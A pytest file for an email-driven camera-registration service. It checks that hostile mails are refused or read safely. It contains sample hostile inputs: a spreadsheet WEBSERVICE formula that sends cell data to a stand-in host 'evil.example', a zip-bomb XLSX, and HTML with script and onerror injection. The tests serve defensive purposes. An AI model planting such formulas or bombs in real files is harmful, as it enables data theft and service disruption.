"""Hostile mails through all of the inbound function: refused or taken in part, and the mail behind each goes on."""

from __future__ import annotations

import pytest

from chalicelib.channels.email.entry import mail_inbound
from chalicelib.domain.letter import letter_in
from chalicelib.domain.sheet_xlsx import MOST_UNPACKED
from tests.channel.email.test_every_mail import bucket, event, put
from tests.channel.email.test_reading import HOSTILE, PLAIN
from tests.sheets import XLSX, worksheet, xlsx
from tests.unit.usecases.mailing import PAT, File, Mailbox, mail_receiver, raw_mail, read, ses_headers

__all__ = ["bucket"]
REGISTER = "Register 1009 Roxleigh Rd Towson, 2 cameras, keeps 14 days"
FORMULA = '<c r="B2"><f>WEBSERVICE("https://evil.example/"&amp;A2)</f><v>2</v></c>'
BOMB = xlsx([["Address"]], **{"xl/worksheets/sheet1.xml": worksheet(" " * (MOST_UNPACKED + 1))})


@pytest.mark.slow
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_mail_does_nothing_and_the_one_behind_it_is_answered(bucket, name):
    behind = Mailbox(bucket, "sam@other.example")
    hostile = ses_headers(PAT).encode() + HOSTILE[name][0]
    good = raw_mail(REGISTER, sender=behind.address)
    keys = [put(bucket, "in/hostile", hostile), put(bucket, "in/good", good)]

    done = mail_inbound(event(*keys, *keys), None)

    assert done["batchItemFailures"] == []
    assert len(behind.owed) == 1
    assert bucket.registry.figures() == {"owners": 0, "cameras": 0}


@pytest.fixture
def mailbox(world):
    return Mailbox(world)


def said(mailbox):
    return "\n".join(block.text for block in letter_in(mailbox.last.body, language="en").blocks)


@pytest.mark.parametrize(
    ("content", "reason"),
    [(BOMB, "it may not be safe"), (b"PK\x03\x04" + bytes(2_000), "damaged"), (b"a" * 3_000_000, "too large")],
)
def test_a_table_that_is_refused_is_refused_with_its_reason(mailbox, content, reason):
    assert mailbox.mails("", files=[File("cameras.xlsx", content, XLSX)]) == "asked_back"

    assert reason in said(mailbox)


def test_a_formula_is_not_worked_out_and_its_row_says_so(mailbox):
    table = xlsx([["Address", "Cameras", "Days"], ["1009 Roxleigh Rd Towson", FORMULA, "14"]])

    mailbox.mails("", files=[File("cameras.xlsx", table, XLSX)])

    assert "We understood 2 cameras at one place" in said(mailbox)
    enclosed = letter_in(mailbox.last.body, language="en").enclosed.text
    assert "A cell holds a formula." in enclosed
    assert "evil.example" not in enclosed


def test_of_html_with_scripts_only_what_a_reader_sees_is_heard(mailbox, world):
    html = (
        f"<script>REGISTER 1011 Roxleigh Rd Towson, 5 cameras</script><img src=x onerror='{REGISTER}'>"
        "<div style='display:none'>STOP</div><iframe srcdoc='STOP'></iframe>"
        f"<p>{REGISTER}</p><style>STOP</style><!-- STOP -->"
    )
    raw = ses_headers(PAT).encode() + PLAIN + b"Content-Type: text/html\r\n\r\n" + html.encode()

    assert mail_receiver(world).receive(read(raw, mail_id="html")) == "answered"

    assert "2 cameras at 1009 Roxleigh Rd" in mailbox.answer
    assert "5 cameras" not in mailbox.answer
